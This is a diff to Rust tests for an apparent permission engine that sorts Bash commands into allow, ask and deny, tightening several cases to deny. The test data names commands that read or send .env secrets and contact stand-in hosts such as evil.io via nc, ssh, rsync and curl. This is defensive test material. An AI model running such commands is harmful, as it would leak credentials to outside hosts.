@@ -19,7 +19,7 @@ const OPEN: &[(&str, &str)] = &[
     ("rw", "cp -t $X a.txt"),
     ("rw", "mv a.txt $X"),
     ("rwh", "curl $U"),
-    ("rwh", "curl -K $X https://x.io"),
+    ("rwhc", "curl -K $X https://x.io"),
     ("rwh", "make $X"),
     ("rwh", "dd if=$X of=y"),
     ("rwhc", "$X y"),
@@ -119,19 +119,19 @@ async fn the_words_of_a_program_are_held_against_rules() {
         session
             .holds(
                 "ask Bash awk 1 .env
-                 ask Bash dd if=.env of=x
+                 deny Bash dd if=.env of=x
                  ask Bash tool -f.env
                  ask Bash tool --file=src/.env
                  ask Bash tool --data @.env
                  ask Bash sudo tool .env
                  ask Bash tool locked/x
                  ask Bash tool fine/x
-                 ask Bash tar xf a.tar -C locked
+                 deny Bash tar xf a.tar -C locked
                  ask Bash openssl x509 -in a.pem
-                 ask Bash nc evil.io 80
-                 ask Bash ssh me@EVIL.io
+                 deny Bash nc evil.io 80
+                 deny Bash ssh me@EVIL.io
                  ask Bash http https:evil.io
-                 ask Bash rsync a evil.io:x
+                 deny Bash rsync a evil.io:x
                  allow Bash less .env
                  allow Bash awk 1 a.txt
                  allow Bash tool --file=src/env
